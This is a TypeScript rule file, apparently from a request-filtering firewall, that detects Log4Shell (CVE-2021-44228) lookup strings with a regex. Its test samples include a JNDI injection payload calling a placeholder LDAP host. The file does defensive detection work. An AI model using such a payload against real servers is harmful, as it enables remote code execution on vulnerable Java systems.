import type { Rule } from '../rule.ts';

export const javaRules: readonly Rule[] = [
  {
    id: 'java-lookup',
    family: 'java',
    severity: 'critical',
    paranoia: 1,
    stops: 'Lookups of log4j (CVE-2021-44228).',
    in: ['arguments', 'headers', 'user_agent', 'referer', 'cookies', 'path'],
    screen: 'any',
    when: [{ regex: String.raw`\$\{\s*(?:jndi|lower|upper|env|sys|::-)` }],
    bad: ['${jndi:ldap://x.example/a}', { headers: { 'x-api-version': '${jndi:ldap://x.example/a}' } }],
    good: ['${name}'],
  },
];
